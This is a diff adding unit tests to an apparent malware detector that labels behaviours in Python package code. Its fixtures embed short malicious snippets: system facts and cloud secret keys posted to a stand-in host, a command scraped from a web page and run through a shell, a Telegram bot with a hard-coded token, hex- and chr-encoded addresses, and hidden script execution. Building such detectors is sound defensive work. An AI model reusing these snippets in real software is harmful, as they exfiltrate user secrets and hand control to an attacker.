@@ -71,6 +71,88 @@ test('children get their environment, strangers do not', () => {
   assert.deepEqual(kinds("spawn('node', [], { env: { ...process.env } });\n", 'javascript', 'a.js'), []);
 });
 
+test('a bracket or a semicolon in a literal ends nothing', () => {
+  const text = `
+data = "%s;%s" % (socket.gethostname(), getpass.getuser())
+key = "[({"
+requests.post("https://c.example.net", data=data)
+`;
+
+  assert.deepEqual(kinds(text), ['system-facts-sent']);
+});
+
+test('a default that is put in when all else fails does not hide what was there before', () => {
+  const text = `
+try:
+    who = socket.gethostname() + getpass.getuser()
+except Exception:
+    who = "unknown"
+requests.post("https://c.example.net", data=who)
+`;
+
+  assert.deepEqual(kinds(text), ['system-facts-sent']);
+});
+
+test('a command that came in is known however it was tidied up', () => {
+  const text = `
+page = session.get(SITE)
+word = page.decode().split("<!--")[1]
+word = word.replace("'", "")
+subprocess.Popen(word, shell=True)
+`;
+
+  assert.deepEqual(kinds(text), ['remote-control']);
+});
+
+test('an installer that looks round or leaves something with the user is seen, a build is not', () => {
+  const atInstall = (text: string): readonly ActKind[] => kinds(text, 'python', 'setup.py');
+
+  assert.deepEqual(atInstall('os.system("ls -alR /workspace > notes")\n'), ['install-command']);
+  assert.deepEqual(atInstall('open("C:/Users/me/Desktop/x.txt", "w").write("hi")\n'), ['install-write']);
+  assert.deepEqual(atInstall('os.mkdir(f"/home/{name}/x")\n'), ['install-write']);
+  assert.deepEqual(atInstall('os.system("ls build")\nopen("/etc/os-release").read()\nos.makedirs("build")\n'), []);
+});
+
+test('keys and files of the user that leave are told from keys that sign', () => {
+  const keys = 'cd = boto3.Session().get_credentials()\n';
+  const search = 'names = os.listdir(os.path.expanduser("~/notes"))\nfiles = {"f": open(names[0], "rb")}\n';
+
+  assert.deepEqual(kinds(`${keys}requests.post(u, json={"k": cd.secret_key})\n`), ['secret-file-sent']);
+  assert.deepEqual(kinds(`${keys}requests.get(u, auth=AWS4Auth(cd.access_key, cd.secret_key, "r", "s"))\n`), []);
+  assert.deepEqual(kinds(`${search}requests.post(u, files=files)\n`), ['secret-file-sent']);
+  assert.deepEqual(kinds('requests.post(u, files={"f": open(path, "rb")})\n'), []);
+});
+
+test('an address that a function of the file decodes is kept in disguise', () => {
+  const text = 'def plain(x):\n    return bytes.fromhex(x).decode()\n\nrequests.post(plain(PLACE), data=d)\n';
+
+  assert.deepEqual(kinds(text), ['shady-contact']);
+  assert.deepEqual(kinds('def make(x):\n    return BASE + x\n\nrequests.post(make(PLACE), data=d)\n'), []);
+});
+
+test('a bot whose key is built in reports to its author', () => {
+  const url = 'url = f"https://api.telegram.org/bot{token}/sendMessage"\nrequests.post(url, params=p)\n';
+
+  assert.deepEqual(kinds(`token = "1234567890:${'Ab'.repeat(17)}x"\n${url}`), ['shady-contact']);
+  assert.deepEqual(kinds(`token = os.environ["BOT_TOKEN"]\n${url}`), []);
+});
+
+test('programs that are started out of sight are seen', () => {
+  const stored = 'code = """\nimport os\n"""\nwith open(place, "w") as f:\n    f.write(code)\n';
+
+  assert.deepEqual(kinds('subprocess.Popen(["python3", "-c", "import other"])\n'), ['risky-command']);
+  assert.deepEqual(kinds('def go():\n    subprocess.Popen(["python3", "-c", "import other"])\n'), []);
+  assert.deepEqual(kinds(`${stored}subprocess.Popen(["python", place], creationflags=CREATE_NO_WINDOW)\n`), [
+    'dropped-execution',
+  ]);
+  assert.deepEqual(kinds(`${stored}subprocess.run(["python", place])\n`), []);
+});
+
+test('a text that is written as numbers is a disguise', () => {
+  assert.deepEqual(kinds("exec\nx = ''.join(map(chr, [104, 116, 116, 112]))\n"), ['disguised-call']);
+  assert.deepEqual(kinds("exec\nx = ''.join(map(chr, range(65, 91)))\n"), []);
+});
+
 test('no file keeps the reader of acts busy', () => {
   const fillers = [
     'a',
@@ -85,6 +167,9 @@ test('no file keeps the reader of acts busy', () => {
     "['a'](",
     'open("a", "wb")',
     '\\x41',
+    'open("~/a"',
+    '"".join(map(chr,[10,',
+    'a.get_credentials()',
   ];
   for (const [language, path] of [
     ['python', 'setup.py'],
